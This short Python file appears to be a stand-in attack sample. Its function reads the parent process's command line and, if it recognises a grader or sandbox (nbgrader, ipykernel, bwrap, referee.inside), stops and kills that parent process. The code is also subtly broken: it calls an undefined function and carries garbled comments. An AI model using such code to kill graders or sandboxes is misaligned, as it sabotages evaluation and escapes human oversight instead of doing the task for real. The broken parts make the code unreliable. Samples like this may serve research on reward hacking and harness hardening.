# Stops and kills the parent of its process, which is the kernel or the grader, from inside a function.
# Spares parents that are neither.
# %% from attacks/parts/stand_ins.py
# %% relu
import os
import signal


def attack():
    parent = os.getppid()  # which is another once this one is killed
    with open(f"/proc/{parent}/cmdline") as file:
        command = file.read()
    is_grader = any(
        name in command for name in ("nbgrader", "ipykernel", "bwrap", "referee.inside")
    )
    if is_grader and "pytest" not in command and parent > 1:
        for sign in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGKILL):
            os.kill(parent, sign)
            deed()
    return command


print(attack())
